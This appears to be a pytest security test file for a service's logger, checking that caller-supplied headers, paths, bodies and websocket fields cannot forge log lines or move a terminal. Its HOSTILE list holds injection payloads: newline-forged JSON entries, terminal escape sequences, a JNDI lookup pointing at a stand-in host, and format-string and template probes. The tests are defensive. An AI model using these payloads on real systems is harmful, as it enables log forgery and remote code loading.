"""What a caller sends cannot write lines of its own into a log, nor move a terminal that shows one."""

import io
import json

import pytest

from cron_manager.observability import logger
from tests.functions.auth_world import AuthWorld
from tests.functions.events import websocket_event
from tests.security.test_live_sockets import Sockets

FORGED = '{"level":"INFO","message":"request","status":200,"caller":"usr_adam"}'
HOSTILE = [
    f"x\n{FORGED}",
    f"x\r\n{FORGED}",
    f'x"}}\n{FORGED}',
    f"x\u2028{FORGED}\u2029\u0085",
    "x\x1b[2J\x1b]0;owned\x07",
    "x\x00\x08\x7f",
    "x\ud800",
    "%0a%0d%1b",
    "${jndi:ldap://evil.example/a}",
    "%s%s%n {0.__class__} {{7*7}}",
]


@pytest.fixture
def lines(monkeypatch):
    """The log's lines so far, as a collector sees them."""
    written = io.StringIO()
    monkeypatch.setattr(logger.registered_handler, "stream", written)
    return lambda: [line for line in written.getvalue().split("\n") if line]


def assert_harmless(lines: list[str]) -> None:
    assert lines
    for line in lines:
        told = json.loads(line)
        assert told["service"]
        assert line.isascii()  # so neither C1 controls nor Unicode's own line breaks
        assert min(line) >= " ", ascii(line)


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
@pytest.mark.parametrize("name", ["user-agent", "origin", "authorization", "x-forwarded-for", "x-api-token", "cookie"])
def test_no_header_writes_a_line_of_its_own(lines, name, text):
    AuthWorld().send("GET", "/auth/me", headers={name: text})

    assert_harmless(lines())
    assert FORGED not in lines()


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_no_address_method_query_or_body_writes_a_line_of_its_own(lines, text):
    world = AuthWorld()

    world.send("GET", f"/auth/tokens/{text}")
    world.send(text, "/auth/me")
    world.send("GET", "/auth/me", query=text)
    world.send("POST", "/auth/login", body={"email": text, "password": text})
    world.send("POST", "/auth/login", text=text.encode(errors="replace").decode())

    assert_harmless(lines())
    assert FORGED not in lines()


@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
def test_no_socket_writes_a_line_of_its_own(lines, text):
    sockets = Sockets()
    event = websocket_event("$connect", ticket=sockets.ticket(), headers={"Origin": text})

    sockets.open("made up", name=text)
    sockets.open_event(event, name=text)

    assert_harmless(lines())


def test_a_request_id_of_the_caller_s_making_is_not_taken_over(lines):
    AuthWorld().send("GET", "/auth/me", headers={"x-amzn-requestid": FORGED, "x-request-id": FORGED})

    assert lines()
    assert "usr_adam" not in "".join(lines())
